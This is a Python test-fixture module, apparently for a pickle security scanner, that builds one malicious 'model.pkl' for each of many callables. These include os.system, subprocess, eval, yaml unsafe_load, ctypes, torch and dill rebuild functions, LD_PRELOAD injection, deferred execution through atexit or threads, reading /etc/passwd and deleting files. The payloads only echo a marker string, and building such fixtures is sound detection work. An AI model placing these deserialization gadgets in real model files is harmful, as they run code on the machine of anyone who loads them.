"""Attack shapes: one pickle for each callable that runs code, opens a connection, or reads and writes files."""

from __future__ import annotations

from judge_kit import ECHO, Folder, blob, build, call, instance, mapping, name, opcodes, reduce, text, whole

PY = "print('assay-test')"
URL = "http://127.0.0.1:9/assay-test"
CODE = f"__import__('os').system('{ECHO}')"

COMMANDS = {
    "os-system": ("os", "system", ECHO),
    "posix-system": ("posix", "system", ECHO),
    "nt-system": ("nt", "system", ECHO),
    "os-popen": ("os", "popen", ECHO),
    "os-execvp": ("os", "execvp", "echo", ["echo", "assay-test"]),
    "os-spawnlp": ("os", "spawnlp", 0, "echo", "echo", "assay-test"),
    "subprocess-popen": ("subprocess", "Popen", ["echo", "assay-test"]),
    "subprocess-getoutput": ("subprocess", "getoutput", ECHO),
    "commands-python2": ("commands", "getoutput", ECHO),
    "pty-spawn": ("pty", "spawn", ["echo", "assay-test"]),
    "platform-popen": ("platform", "popen", ECHO),
    "uuid-command": ("uuid", "_get_command_stdout", "echo", "assay-test"),
    "imaplib-stream": ("imaplib", "IMAP4_stream", ECHO),
    "asyncio-shell": ("asyncio", "create_subprocess_shell", ECHO),
    "spawnv-passfds": ("multiprocessing.util", "spawnv_passfds", b"/bin/echo", [b"echo", b"assay-test"], []),
    "osx-support": ("_osx_support", "_read_output", ECHO),
    "aix-support": ("_aix_support", "_read_cmd_output", ECHO),
    "pydoc-pager": ("pydoc", "pipepager", "x", ECHO),
    "script-helper": ("test.support.script_helper", "assert_python_ok", "-c", PY),
    "numpy-exec-command": ("numpy.distutils.exec_command", "exec_command", ECHO),
    "torch-collect-env": ("torch.utils.collect_env", "run", ECHO),
    "torch-compile-file": ("torch._inductor.codecache", "compile_file", "in.cpp", "out.so", [ECHO]),
    "webbrowser-open": ("webbrowser", "open", URL),
    "distutils-spawn": ("distutils.spawn", "spawn", ["echo", "assay-test"]),
    "setuptools-setup": ("distutils.core", "run_setup", "setup.py"),
}
EVALUATORS = {
    "builtins-eval": ("builtins", "eval", CODE),
    "builtins-exec": ("builtins", "exec", PY),
    "python2-eval": ("__builtin__", "eval", CODE),
    "python2-execfile": ("__builtin__", "execfile", "payload.py"),
    "runpy-path": ("runpy", "run_path", "payload.py"),
    "runpy-code": ("runpy", "_run_code", PY, {}),
    "timeit": ("timeit", "timeit", PY, "pass", 1),
    "timeit-main": ("timeit", "main", ["-n1", PY]),
    "profile-run": ("profile", "run", PY),
    "cprofile-runctx": ("cProfile", "runctx", PY, {}, {}),
    "pdb-run": ("pdb", "run", PY),
    "bdb-dotted": ("bdb", "Bdb.run", None, PY),
    "trace-run": ("trace", "Trace.run", None, PY),
    "code-interact": ("code", "InteractiveInterpreter.runcode", None, PY),
    "doctest-debug": ("doctest", "debug_script", PY),
    "idle-calltip": ("idlelib.calltip", "get_entity", CODE),
    "idle-debugobj": ("idlelib.debugobj", "ObjectTreeItem.SetText", None, PY),
    "lib2to3-parsergen": ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", None, None, CODE),
    "numpy-runstring": ("numpy.testing._private.utils", "runstring", PY, {}),
    "numpy-crackfortran": ("numpy.f2py.crackfortran", "getlincoef", CODE, {}),
    "numpy-crackfortran-length": ("numpy.f2py.crackfortran", "_eval_length", CODE, {}),
    "torch-guard-builder": ("torch._dynamo.guards", "GuardBuilder.get", None, CODE),
    "torch-bottleneck": ("torch.utils.bottleneck.__main__", "run_cprofile", PY, {}),
    "torch-shape-guards": (
        "torch.fx.experimental.symbolic_shapes",
        "ShapeEnv.evaluate_guards_expression",
        None,
        CODE,
        [],
    ),
    "torch-exec-wrapper": ("torch.jit.unsupported_tensor_ops", "execWrapper", PY, {}, {}),
    "torch-cpp-inline": ("torch.utils.cpp_extension", "load_inline", "m", "void f(){}"),
    "torch-hub": ("torch.hub", "load", "owner/repo", "model"),
    "sympy-sympify": ("sympy.core.sympify", "sympify", CODE),
    "sympy-parse": ("sympy.parsing.sympy_parser", "parse_expr", CODE),
    "patsy-dmatrix": ("patsy.highlevel", "dmatrix", CODE, {}),
    "statsmodels-formula": ("statsmodels.formula.api", "ols", f"y ~ {CODE}", {}),
    "pandas-eval": ("pandas", "eval", f"@{CODE}"),
    "numexpr": ("numexpr", "evaluate", CODE),
    "yaml-unsafe": ("yaml", "unsafe_load", f"!!python/object/apply:os.system ['{ECHO}']"),
    "jsonpickle": ("jsonpickle", "decode", '{"py/reduce": [{"py/function": "os.system"}]}'),
    "site-addsitedir": ("site", "addsitedir", "payload"),
    "logging-config": ("logging.config", "dictConfig", {"version": 1, "handlers": {"h": {"()": "os.system"}}}),
    "transformers-remote": ("transformers.dynamic_module_utils", "get_class_from_dynamic_module", "m.C", "o/r"),
    "pip-main": ("pip", "main", ["install", "assay-test"]),
    "ensurepip": ("ensurepip", "_run_pip", ["--version"]),
    "import-module": ("importlib", "import_module", "payload"),
    "find-loader": ("pkgutil", "get_loader", "payload.inner"),
    "zipimporter": ("zipimport", "zipimporter", "payload.zip"),
    "ctypes-cdll": ("ctypes", "CDLL", "libpayload.so"),
    "ctypes-dlopen": ("_ctypes", "dlopen", "libpayload.so", 0),
    "numpy-ctypeslib": ("numpy.ctypeslib", "load_library", "payload", "."),
    "torch-load-library": ("torch._ops", "_OpNamespace.load_library", None, "libpayload.so"),
    "hydra-instantiate": ("hydra.utils", "instantiate", {"_target_": "os.system", "command": ECHO}),
}
REACHES = {
    "urlopen": ("urllib.request", "urlopen", URL),
    "urlretrieve": ("urllib.request", "urlretrieve", URL, "/tmp/assay-test"),
    "socket-connect": ("socket", "create_connection", ["127.0.0.1", 9]),
    "smtplib": ("smtplib", "SMTP", "127.0.0.1", 9),
    "ftplib": ("ftplib", "FTP", "127.0.0.1"),
    "requests-get": ("requests.api", "get", URL),
    "pandas-read-csv": ("pandas", "read_csv", URL),
    "numpy-genfromtxt": ("numpy", "genfromtxt", URL),
    "open-write": ("builtins", "open", "/tmp/assay-test", "w"),
    "io-fileio": ("_io", "FileIO", "/tmp/assay-test", "w"),
    "path-write": ("pathlib", "Path.write_text", None, "x"),
    "linecache": ("linecache", "getlines", "/etc/passwd"),
    "numpy-memmap": ("numpy", "memmap", "/tmp/assay-test", "uint8", "w+", 0, [8]),
    "numpy-fromfile": ("numpy", "fromfile", "/etc/passwd"),
    "pandas-to-pickle": ("pandas", "to_pickle", 1, "/tmp/assay-test"),
    "joblib-dump": ("joblib", "dump", 1, "/tmp/assay-test"),
    "torch-save": ("torch.serialization", "save", 1, "/tmp/assay-test"),
    "rmtree": ("shutil", "rmtree", "/tmp/assay-test"),
    "os-unlink": ("os", "unlink", "/tmp/assay-test"),
    "zipfile-write": ("zipfile", "ZipFile", "/tmp/assay-test", "w"),
    "file-handler": ("logging", "FileHandler", "/tmp/assay-test"),
    "distutils-write": ("distutils.file_util", "write_file", "/tmp/assay-test", ["x"]),
    "sqlite": ("sqlite3", "connect", "/tmp/assay-test"),
    "dbm-open": ("dbm", "open", "/tmp/assay-test", "n"),
}


def tables() -> dict[str, bytes]:
    """One call of each gadget in the tables, protocols 2 to 5 in turn."""
    out = {}
    for number, (shape, (module, attribute, *values)) in enumerate({**COMMANDS, **EVALUATORS, **REACHES}.items()):
        protocol = 4 if "." in attribute else 2 + number % 4
        out[shape] = whole(call(module, attribute, *values), protocol)
    return out


def composed() -> dict[str, bytes]:
    """Gadgets that take other gadgets, or run later than the load."""
    system, command = name("os", "system"), text(ECHO)
    get = name("builtins", "getattr")
    imported = call("builtins", "__import__", "os")
    compiled = reduce(name("marshal", "loads"), blob(b"c\x00\x00\x00\x00"))
    transformer = mapping(func=name("builtins", "eval"), kw_args=b"}", validate=b"\x89", check_inverse=b"\x88")
    steps = (
        b"]("
        + reduce(
            b"",
            text("f"),
            build(instance("sklearn.preprocessing._function_transformer", "FunctionTransformer"), transformer),
        )[:-1]
        + b"e"
    )
    graph = mapping(_code=text(f"import os\nos.system({ECHO!r})\ndef forward(self): pass\n"))
    return {
        "getattr-import": whole(reduce(reduce(get, imported, text("system")), command)),
        "resolve-name": whole(reduce(call("pkgutil", "resolve_name", "os:system"), command)),
        "pydoc-locate": whole(reduce(call("pydoc", "locate", "os.system"), command)),
        "logging-resolve": whole(reduce(call("logging.config", "_resolve", "os.system"), command)),
        "function-from-marshal": whole(reduce(reduce(name("types", "FunctionType"), compiled, b"}"))),
        "code-type": whole(reduce(name("types", "CodeType"), *[b"K\x00"] * 6, blob(b"d\x00S\x00"), b")")),
        "partial-call": whole(reduce(reduce(name("functools", "partial"), system, command))),
        "partial-setstate": whole(
            build(
                reduce(name("functools", "partial"), name("builtins", "print")),
                b"(" + system + b"(" + command + b"t}Nt",
            )
            + b")R"
        ),
        "methodcaller": whole(reduce(call("operator", "methodcaller", "system", ECHO), imported)),
        "attrgetter": whole(reduce(reduce(call("_operator", "attrgetter", "system"), imported), command)),
        "map-into-list": whole(
            reduce(name("builtins", "list"), reduce(name("builtins", "map"), system, b"](" + command + b"e"))
        ),
        "deque-of-starmap": whole(
            reduce(
                name("collections", "deque"),
                reduce(name("itertools", "starmap"), system, b"](" + b"(" + command + b"t" + b"e"),
            )
        ),
        "functools-reduce": whole(reduce(name("_functools", "reduce"), get, b"](" + imported + text("system") + b"e")),
        "thread": whole(reduce(name("_thread", "start_new_thread"), system, b"(" + command + b"t")),
        "timer": whole(reduce(name("threading", "Timer"), b"K\x00", system, b"](" + command + b"e")),
        "atexit": whole(reduce(name("atexit", "register"), system, command)),
        "finalize": whole(reduce(name("weakref", "finalize"), name("builtins", "object"), system, command)),
        "defaultdict-eval": whole(reduce(name("collections", "defaultdict"), name("builtins", "breakpoint"))),
        "numpy-fromfunction": whole(reduce(name("numpy", "fromfunction"), name("os", "system"), b"(K\x01t")),
        "function-transformer": whole(
            build(instance("sklearn.pipeline", "Pipeline"), mapping(steps=steps, memory=b"N", verbose=b"\x89"))
        ),
        "torch-rebuild-type": whole(
            reduce(
                name("torch._tensor", "_rebuild_from_type_v2"),
                system,
                name("torch", "Tensor"),
                b"(" + command + b"t",
                b"}",
            )
        ),
        "torch-rebuild-wrapper": whole(
            reduce(
                name("torch._tensor", "_rebuild_from_type"),
                system,
                name("torch", "Tensor"),
                b"(" + command + b"t",
                b"}",
            )
        ),
        "torch-graph-module": whole(
            reduce(name("torch.fx.graph_module", "reduce_graph_module"), graph, text("import os\n"))
        ),
        "torch-deploy-module": whole(
            reduce(
                name("torch.fx.graph_module", "reduce_deploy_graph_module"),
                name("builtins", "exec"),
                graph,
                text("import os\n"),
            )
        ),
        "copyreg-reconstructor": whole(
            reduce(name("copyreg", "_reconstructor"), name("subprocess", "Popen"), name("builtins", "object"), b"N")
        ),
        "copyreg-newobj": whole(reduce(name("copyreg", "__newobj__"), name("ctypes", "CDLL"), text("libpayload.so"))),
        "sys-modules": whole(
            name("sys", "modules") + text("numpy") + imported + b"s" + b"0" + call("numpy", "system", ECHO)
        ),
        "environment": whole(name("os", "environ") + text("LD_PRELOAD") + text("./libpayload.so") + b"s"),
        "builtins-dict": whole(name("builtins", "__dict__") + text("len") + name("builtins", "eval") + b"s"),
        "copyreg-table": whole(name("copyreg", "dispatch_table") + name("builtins", "complex") + system + b"s"),
        "setattr": whole(reduce(name("builtins", "setattr"), imported, text("getcwd"), system)),
        "antigravity": whole(name("antigravity", "fly")),
        "multiprocessing-pool": whole(
            reduce(name("multiprocessing.pool", "Pool"), b"K\x01", system, b"(" + command + b"t")
        ),
        "executor-submit": whole(
            reduce(
                name("concurrent.futures", "ThreadPoolExecutor.submit"),
                instance("concurrent.futures", "ThreadPoolExecutor"),
                system,
                command,
            )
        ),
        "dill-function": whole(
            reduce(
                name("dill._dill", "_create_function"),
                reduce(name("dill._dill", "_create_code"), *[b"K\x00"] * 5, blob(b"d\x00S\x00")),
                b"}",
            )
        ),
        "dill-import": whole(reduce(name("dill._dill", "_import_module"), text("os.system")) + b"0N"),
        "dill-eval-repr": whole(reduce(name("dill._dill", "_eval_repr"), text(CODE))),
        "cloudpickle-function": whole(reduce(name("cloudpickle.cloudpickle", "_make_function"), compiled, b"}N))")),
        "cloudpickle-subimport": whole(reduce(name("cloudpickle.cloudpickle", "subimport"), text("payload")) + b"0N"),
        "rebuild-connection": whole(call("multiprocessing.resource_sharer", "DupFd.detach", None)),
        "rest-of-state": whole(
            build(
                instance("sklearn.tree._classes", "DecisionTreeClassifier"),
                mapping(criterion=opcodes("gini"), tree_=call("os", "system", ECHO)),
            )
        ),
    }


def shapes() -> dict[str, Folder]:
    """Every gadget, as model.pkl."""
    return {f"pickle-gadget--{shape}": {"model.pkl": data} for shape, data in {**tables(), **composed()}.items()}
